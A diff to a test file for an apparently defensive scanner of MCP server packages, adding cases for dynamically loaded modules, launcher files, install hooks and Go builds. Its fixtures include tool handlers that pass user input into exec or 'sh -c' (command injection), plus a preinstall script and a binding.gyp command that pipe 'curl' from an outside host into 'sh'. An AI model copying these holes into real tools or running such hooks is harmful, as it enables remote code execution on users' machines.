@@ -1,6 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import { analyze } from '../src/analyze.js';
-import { pythonServer } from './support/tool-bodies.js';
+import { goServer, pythonServer } from './support/tool-bodies.js';
 
 const HELPER = 'import os\ndef go(h):\n    os.system("ping " + h)\n';
 
@@ -106,5 +106,146 @@ describe('a module of a Python package', () => {
       'data.pyc': '\0',
     });
     expect(report.complete).toBe(true);
+  });
+});
+
+const SCRIPT = (body: string, before = ''): string =>
+  `import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';\nimport { z } from 'zod';\n${before}\nconst server = new McpServer({ name: 'x', version: '1' });\nserver.registerTool('lookup', { description: 'Looks a host up.', inputSchema: { host: z.string() } }, async ({ host }) => { ${body} return { content: [] }; });\n`;
+const SCRIPT_HELPER =
+  "import { exec } from 'node:child_process';\nexport const go = (h) => exec('ping ' + h);\n";
+const EVIL = SCRIPT("exec('ping ' + host);", "import { exec } from 'node:child_process';");
+
+describe('a module that a script loads by a computed name', () => {
+  const LOADS = "const module = await import(['.', FOLDER, 'helper.js'].join('/')); module.go(host);";
+
+  it.each(['test', 'docs', 'examples', 'vendor'])('is missing in the report: %s', async (folder) => {
+    const report = await reportOf({
+      'index.js': SCRIPT(LOADS, `const FOLDER = '${folder}';`),
+      [`${folder}/helper.js`]: SCRIPT_HELPER,
+    });
+    expect(report.incomplete_reasons).toEqual([
+      `${folder}/helper.js: is loaded under a name that is computed, and was not analyzed`,
+    ]);
+    expect(report.certification_level).toBe(0);
+  });
+
+  it('is any of a folder where the rest of the name is not known', async () => {
+    const report = await reportOf({
+      'index.js': SCRIPT("for (const file of readdirSync('./test')) (await import('./test/' + file)).go(host);", "import { readdirSync } from 'node:fs';"), // prettier-ignore
+      'test/helper.js': SCRIPT_HELPER,
+    });
+    expect(report.incomplete_reasons).toEqual([
+      'test/: is loaded under a name that is computed, and was not analyzed',
+    ]);
+  });
+
+  it('is not missing elsewhere', async () => {
+    const files = { 'test/helper.js': SCRIPT_HELPER, 'tools/helper.js': SCRIPT_HELPER };
+    const own = await reportOf({ 'index.js': SCRIPT(LOADS, "const FOLDER = 'tools';"), ...files });
+    expect(own.complete).toBe(true);
+    expect(own.findings.map(({ rule_id }) => rule_id)).toContain('MCP-A001');
+    const none = await reportOf({ 'index.js': SCRIPT('await import(process.env.PLUGIN);'), ...files });
+    expect(none.complete).toBe(true);
+  });
+});
+
+describe('a server that only a launcher names', () => {
+  it.each([
+    ['Dockerfile', 'FROM node\nCOPY . /app\nCMD ["node", "/app/examples/server.js"]\n'],
+    ['docker/server.Dockerfile', 'FROM node\nENTRYPOINT node ../examples/server.js\n'],
+    [
+      'smithery.yaml',
+      "startCommand:\n  commandFunction: () => ({ command: 'node', args: ['examples/server.js'] })\n",
+    ],
+    [
+      'manifest.json',
+      '{"server":{"mcp_config":{"command":"node","args":["${__dirname}/examples/server.js"]}}}',
+    ],
+    ['server.json', '{"packages":[{"runtimeArguments":[{"value":"examples/server"}]}]}'],
+    ['package.json', '{"name":"x","version":"1.0.0","main":"index.js","directories":{"bin":"./examples"}}'],
+  ])('is analyzed in any folder: %s', async (path, text) => {
+    const report = await reportOf({ 'index.js': SCRIPT(''), 'examples/server.js': EVIL, [path]: text });
+    expect(report.findings.map(({ rule_id }) => rule_id)).toContain('MCP-A001');
+  });
+
+  it('is an example otherwise', async () => {
+    const report = await reportOf({
+      'index.js': SCRIPT(''),
+      'examples/server.js': EVIL,
+      Dockerfile: 'FROM node\nCOPY examples/server.js .\nCMD ["node", "index.js"]\n',
+    });
+    expect(report.findings.map(({ rule_id }) => rule_id)).not.toContain('MCP-A001');
+  });
+});
+
+describe('an installation', () => {
+  const manifest = (scripts: object): string =>
+    JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js', scripts });
+
+  it('runs scripts in any folder', async () => {
+    const report = await reportOf({
+      'package.json': manifest({ preinstall: 'node test/setup.js' }),
+      'index.js': SCRIPT(''),
+      'test/setup.js':
+        "import { execSync } from 'node:child_process';\nexecSync('curl -s https://get.relay.net/x | sh');\n",
+    });
+    expect(report.findings.map(({ rule_id, severity }) => `${rule_id} ${severity}`)).toContain(
+      'MCP-L005 critical',
+    );
+  });
+
+  it('runs the commands of a build file', async () => {
+    const gyp = (command: string): string =>
+      `{ "targets": [{ "target_name": "x", "sources": ["<!(${command})"] }] }`;
+    const files = { 'package.json': manifest({}), 'index.js': SCRIPT('') };
+    const bad = await reportOf({ ...files, 'binding.gyp': gyp('curl -s https://get.relay.net/x | sh') });
+    expect(
+      bad.findings.map(({ location, rule_id, severity }) => `${rule_id} ${severity} ${location.file_path}`),
+    ).toEqual(['MCP-L005 critical binding.gyp']);
+    const good = await reportOf({
+      ...files,
+      'binding.gyp': gyp('node -p \\"require(\'node-addon-api\').include\\"'),
+    });
+    expect(good.findings.filter(({ rule_id }) => rule_id === 'MCP-L005')).toEqual([]);
+  });
+});
+
+describe('a Go package', () => {
+  const MODULE = 'module example.com/x\n\ngo 1.22\n\nrequire github.com/mark3labs/mcp-go v0.30.0\n';
+  const RUNS = 'import "os/exec"\nfunc run(h string) { exec.Command("sh", "-c", h).Run() }\n';
+  const METHOD = 'import "os/exec"\nfunc (r Runner) run(h string) { exec.Command("sh", "-c", h).Run() }\n';
+
+  it.each([
+    ['functions', 'run(host)', RUNS, 'func run(h string) {}\n'],
+    [
+      'methods',
+      'Runner{}.run(host)',
+      `${METHOD}type Runner struct{}\n`,
+      'func (r Runner) run(h string) {}\n',
+    ],
+  ])('may have other %s for each system', async (_what, call, one, other) => {
+    for (const [linux, windows] of [
+      [one, other],
+      [other, one],
+    ]) {
+      const report = await reportOf({
+        'go.mod': MODULE,
+        'main.go': goServer(call),
+        'run_linux.go': `//go:build linux\npackage main\n${linux}`,
+        'run_windows.go': `//go:build windows\npackage main\n${windows}`,
+      });
+      expect(report.findings.map(({ rule_id }) => rule_id)).toContain('MCP-A001');
+    }
+  });
+
+  it('that calls C is not analyzed whole', async () => {
+    const report = await reportOf({
+      'go.mod': MODULE,
+      'main.go': goServer('C.system(C.CString(host))').replace(
+        'import (',
+        '// #include <stdlib.h>\nimport "C"\nimport (',
+      ),
+    });
+    expect(report.incomplete_reasons).toEqual(['main.go: calls C, which is not analyzed']);
   });
 });
